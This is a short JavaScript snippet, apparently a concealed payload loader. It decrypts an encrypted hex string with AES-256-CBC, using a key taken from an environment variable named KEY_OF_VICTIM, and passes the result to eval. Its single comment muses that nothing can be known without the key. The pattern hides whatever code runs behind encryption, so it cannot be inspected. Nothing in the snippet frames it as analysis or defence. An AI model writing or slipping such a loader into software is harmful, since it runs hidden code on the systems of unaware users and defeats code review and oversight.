// The key is not in the file: nothing can be known without it. What is known is that eval runs what a cipher gives.
const c = require('crypto');
const d = c.createDecipheriv('aes-256-cbc', process.env.KEY_OF_VICTIM, Buffer.alloc(16));
eval(d.update('9f86d081884c7d659a2feaa0c55ad015', 'hex', 'utf8') + d.final('utf8'));
